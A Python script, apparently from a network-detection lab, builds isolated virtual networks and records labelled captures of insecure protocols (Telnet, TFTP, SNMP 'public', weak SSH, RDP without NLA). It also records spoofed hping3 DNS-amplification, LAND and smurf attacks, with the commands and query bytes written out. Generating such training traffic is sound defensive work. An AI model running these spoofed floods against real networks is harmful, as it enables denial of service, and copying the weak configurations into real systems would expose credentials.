"""Old and careless: Telnet, TFTP, SNMP with the usual community, SSH of yesterday, a remote desktop without NLA; and three attacks that are one packet each."""

import pathlib
import sys
import time

import services
from lab import LAB, Capture, Lab, sh
from office import Office
from registry import Sample, scene
from scenes.scans import TARGET, range_with_target

TYPIST = '''
import sys, time
time.sleep(1)
for line in sys.argv[1:]:
    print(line, flush=True)
    time.sleep(4 if line == 'mistyped' else 0.9)
'''


@scene(Sample(
    'telnet-session.pcap', 'An administrator logs in to an old switch over Telnet, mistypes the password once, and looks around.',
    'Option negotiation, login and password as they are typed, a few commands; then the configuration is fetched over TFTP.',
    ['`insecure-protocol`: Telnet and TFTP', '`cleartext-credentials`: the password typed over Telnet', 'no `brute-force`: one wrong password'],
    ['telnet.data | all of it readable', 'tftp.opcode == 1 | the file that is asked for']))
def telnet_session(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    services.account()
    # Nothing of the machine that records shows in the greeting.
    sh('sh', '-c', 'rm -rf /etc/update-motd.d /etc/motd; : > /etc/issue.net')
    telnetd = next(p for p in ('/usr/sbin/telnetd', '/usr/sbin/in.telnetd') if pathlib.Path(p).exists())
    office.files.quiet('sh', '-c', 'mkdir -p /dev/pts; mountpoint -q /dev/pts || mount -t devpts -o ptmxmode=0666 devpts /dev/pts')
    office.files.spawn('socat', 'TCP-LISTEN:23,reuseaddr,fork', f'EXEC:{telnetd} -h,nofork', show='telnetd')
    office.files.wait_for_port(23)
    folder = LAB / 'tftp'
    folder.mkdir(exist_ok=True)
    (folder / 'switch.cfg').write_text('hostname access-1\n' + ''.join(f'interface {n}\n description desk {n}\n' for n in range(40)))
    sh('chmod', '-R', 'a+rX', str(folder))
    office.files.spawn('in.tftpd', '--foreground', '--listen', '--user', 'root', '--secure', str(folder), show='in.tftpd --secure /srv/tftp')
    office.files.wait_for_port(69)
    with Capture(office.switch, 'telnet-session.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('sh', '-c', f'{sys.executable} -c "$1" alice mistyped alice {services.PASSWORD} "cat notes.txt" exit | telnet 10.20.0.20', 'sh', TYPIST, timeout=40,
                         show='telnet 10.20.0.20   # alice, a wrong and the right password, cat notes.txt')
        office.alice.run('tftp', '10.20.0.20', '-c', 'get', 'switch.cfg', '/dev/null', show='tftp 10.20.0.20 -c get switch.cfg')


@scene(Sample(
    'snmp-walk.pcap', 'A monitoring program walks a device over SNMP v2c with the community "public", and asks another politely over SNMP v3.',
    'snmpwalk of the system group, a wrong community once, then snmpget with authentication and privacy (SHA, AES).',
    ['`snmp-public`: the community public answers on 10.20.0.20', '`cleartext-credentials` (low): the mistyped community', 'no `amplification`, no `brute-force`'],
    ['snmp.version == 1 | v2c', 'snmp.msgVersion == 3 | v3, encrypted']))
def snmp_walk(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    config = lab.folder / 'snmpd.conf'
    config.write_text(f'agentaddress udp:161\nrocommunity public\nsysDescr lab switch\nsysName access-1\nsysLocation cellar\nsysContact nobody@example.com\ncreateUser monitor SHA {services.PASSWORD} AES {services.PASSWORD}\nrouser monitor priv\n')
    office.files.spawn('env', f'SNMP_PERSISTENT_DIR={lab.folder}', 'snmpd', '-f', '-Lo', '-C', '-c', str(config), show='snmpd   # rocommunity public')
    office.files.wait_for_port(161)
    with Capture(office.switch, 'snmp-walk.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('snmpwalk', '-v2c', '-c', 'public', '-Cc', '10.20.0.20', '1.3.6.1.2.1.1')
        office.alice.run('snmpget', '-v2c', '-c', 'mistyped', '-r', '0', '-t', '1', '10.20.0.20', '1.3.6.1.2.1.1.1.0', show='snmpget -v2c -c *** 10.20.0.20 1.3.6.1.2.1.1.1.0')
        office.alice.run('snmpget', '-v3', '-l', 'authPriv', '-u', 'monitor', '-a', 'SHA', '-A', services.PASSWORD, '-x', 'AES', '-X', services.PASSWORD, '10.20.0.20', '1.3.6.1.2.1.1.1.0',
                         show='snmpget -v3 -l authPriv -u monitor -a SHA -A *** -x AES -X *** 10.20.0.20 1.3.6.1.2.1.1.1.0')


@scene(Sample(
    'weak-ssh.pcap', 'An SSH server that still agrees to algorithms of twenty years ago, and a client that asks for them.',
    'One connection with diffie-hellman-group1-sha1, 3des-cbc and hmac-md5; one with today\'s defaults.',
    ['`weak-ssh`: diffie-hellman-group1-sha1, 3des-cbc and hmac-md5 of 10.20.0.20', 'no `brute-force`'],
    ['ssh.kex_algorithms contains "group1" | what is offered']))
def weak_ssh(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    services.account()
    key = lab.folder / 'ssh_host_rsa'
    sh('ssh-keygen', '-q', '-t', 'rsa', '-N', '', '-f', str(key))
    office.files.spawn('/usr/sbin/sshd', '-D', '-e', '-f', '/dev/null', '-h', str(key), '-o', 'UsePAM=no', '-o', 'PasswordAuthentication=yes', '-o', 'KexAlgorithms=+diffie-hellman-group1-sha1',
                       '-o', 'Ciphers=+3des-cbc', '-o', 'MACs=+hmac-md5', '-o', 'HostKeyAlgorithms=+ssh-rsa', '-o', f'PidFile=/run/sshd-{office.files.name}.pid', '-o', 'UseDNS=no')
    office.files.wait_for_port(22)
    ssh = ('sshpass', '-p', services.PASSWORD, 'ssh', '-F', '/dev/null', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null')
    with Capture(office.switch, 'weak-ssh.pcap', 'tcpdump', '-i', 'br0'):
        for options in (('-oKexAlgorithms=diffie-hellman-group1-sha1', '-oCiphers=3des-cbc', '-oMACs=hmac-md5', '-oHostKeyAlgorithms=ssh-rsa'), ()):
            office.alice.run(*ssh, *options, 'alice@10.20.0.20', 'uptime', show=f'ssh {" ".join(options)} alice@10.20.0.20 uptime')


@scene(Sample(
    'dns-amplification.pcap', 'hping3 asks a name server in the name of alice, and she gets a hundred and twenty large answers that she never asked for.',
    'A hundred and twenty forged questions for wide.example.com TXT (EDNS), answered to 192.168.10.21 with about a kilobyte each.',
    ['`amplification` over DNS towards 192.168.10.21 (ATT&CK T1498.002)'],
    ['dns.flags.response == 1 | answers', 'dns.flags.response == 0 | questions in the name of alice']))
def dns_amplification(lab: Lab) -> None:
    office = Office(lab, ('alice', 'kiosk'), ('files',), delay_ms=1)
    question = lab.folder / 'question.bin'
    question.write_bytes(bytes.fromhex('1234010000010000000000010477696465076578616d706c6503636f6d0000100001') + bytes.fromhex('0000291000000000000000'))
    # Seen from the victim, who has the answers and not the questions.
    with Capture(office.alice, 'dns-amplification.pcap', 'tcpdump', '-i', 'eth0'):
        office.alice.run('dig', '+tries=1', '+time=1', '@192.168.10.1', 'www.example.com')
        office.kiosk.run('hping3', '-q', '-n', '--udp', '-a', '192.168.10.21', '-s', '5353', '-k', '-p', '53', '-d', str(question.stat().st_size), '-E', str(question), '-i', 'u20000', '-c', '120', '192.168.10.1',
                         show='hping3 --udp -a 192.168.10.21 -s 5353 -k -p 53 -E question.bin -i u20000 -c 120 192.168.10.1', timeout=60)


@scene(Sample(
    'land-attack.pcap', 'hping3 sends a host packets that come, they say, from itself.',
    'SYNs whose source address and port are those of the target (LAND, 1997).',
    ['`land-attack`, victim 192.168.10.30', 'no `syn-flood`, no `port-scan`'],
    ['ip.src == ip.dst | from itself, to itself']))
def land_attack(lab: Lab) -> None:
    switch, scanner, _ = range_with_target(lab)
    with Capture(switch, 'land-attack.pcap', 'tcpdump', '-i', 'br0'):
        scanner.run('ping', '-c', '2', '-i', '0.3', TARGET)
        scanner.run('hping3', '-q', '-n', '-S', '-a', TARGET, '-s', '80', '-k', '-p', '80', '-c', '20', '-i', 'u50000', TARGET)


@scene(Sample(
    'smurf.pcap', 'hping3 asks a whole network for an echo, in the name of one host: a smurf.',
    'Echo requests to the broadcast address with the source of the target; three neighbours answer (they were told to).',
    ['`smurf`, victim 192.168.10.30'],
    ['icmp.type == 8 && eth.dst == ff:ff:ff:ff:ff:ff | a question to everybody', 'icmp.type == 0 | answers to one who did not ask']))
def smurf(lab: Lab) -> None:
    switch, scanner, target = range_with_target(lab)
    office = {}
    for number, name in enumerate(('one', 'two', 'three')):
        host = lab.host(name)
        lab.plug(host, switch, f'02:42:c0:a8:0a:4{number}')
        host.address(f'192.168.10.{40 + number}/24')
        host.sysctl('net.ipv4.icmp_echo_ignore_broadcasts', '0')
        office[name] = host
    with Capture(switch, 'smurf.pcap', 'tcpdump', '-i', 'br0'):
        for host in office.values():
            host.run('ping', '-c', '1', '-W', '1', TARGET)
        scanner.quiet('ip', 'route', 'replace', 'broadcast', '192.168.10.255', 'dev', 'eth0')
        scanner.run('hping3', '-q', '-n', '--icmp', '-a', TARGET, '-i', 'u20000', '-c', '110', '192.168.10.255', timeout=30)


@scene(Sample(
    'rdp-without-nla.pcap', 'A remote desktop that asks for no proof before it shows its login screen, and still agrees to the old RDP encryption.',
    'xrdp with security_layer=negotiate, without network-level authentication; xfreerdp once with the RDP encryption of old and once with TLS.',
    ['`weak-rdp`: 10.20.0.20 port 3389, without NLA', 'no `brute-force`, no `lateral-movement` above info: one session'],
    ['rdp.negReq.requestedProtocols | what the client asks for', 'rdp.negReq.selectedProtocol | what the server chooses']))
def rdp_without_nla(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('files',), delay_ms=1)
    folder = LAB / 'xrdp'
    folder.mkdir(exist_ok=True)
    sh('openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', f'{folder}/key.pem', '-out', f'{folder}/cert.pem', '-days', '30', '-subj', '/CN=desk.example.com')
    settings = pathlib.Path('/etc/xrdp/xrdp.ini').read_text()
    changes = {'security_layer': 'negotiate', 'crypt_level': 'low', 'certificate': f'{folder}/cert.pem', 'key_file': f'{folder}/key.pem', 'port': '3389'}
    lines, seen = [], set()
    for line in settings.splitlines():
        key = line.split('=')[0].strip()
        if key in changes and key not in seen:
            seen.add(key)
            line = f'{key}={changes[key]}'
        lines.append(line)
    (folder / 'xrdp.ini').write_text('\n'.join(lines) + '\n')
    sh('xrdp-keygen', 'xrdp', '/etc/xrdp/rsakeys.ini')
    pathlib.Path('/run/xrdp').mkdir(exist_ok=True)
    office.files.spawn('xrdp', '--nodaemon', '--config', str(folder / 'xrdp.ini'), show='xrdp --nodaemon   # security_layer=negotiate, crypt_level=low')
    office.files.wait_for_port(3389, 20)
    office.alice.spawn('Xvfb', ':7', '-screen', '0', '640x480x16', '-nolisten', 'tcp')
    time.sleep(2)
    with Capture(office.switch, 'rdp-without-nla.pcap', 'tcpdump', '-i', 'br0', '-c', '600'):
        for layer in ('rdp', 'tls'):
            office.alice.run('env', 'DISPLAY=:7', f'HOME={lab.folder}', 'timeout', '6', 'xfreerdp', '/v:10.20.0.20', '/u:alice', f'/p:{services.PASSWORD}', f'/sec:{layer}', '/cert-ignore', '/size:320x200', '/bpp:8',
                             show=f'xfreerdp /v:10.20.0.20 /u:alice /p:*** /sec:{layer} /cert-ignore')
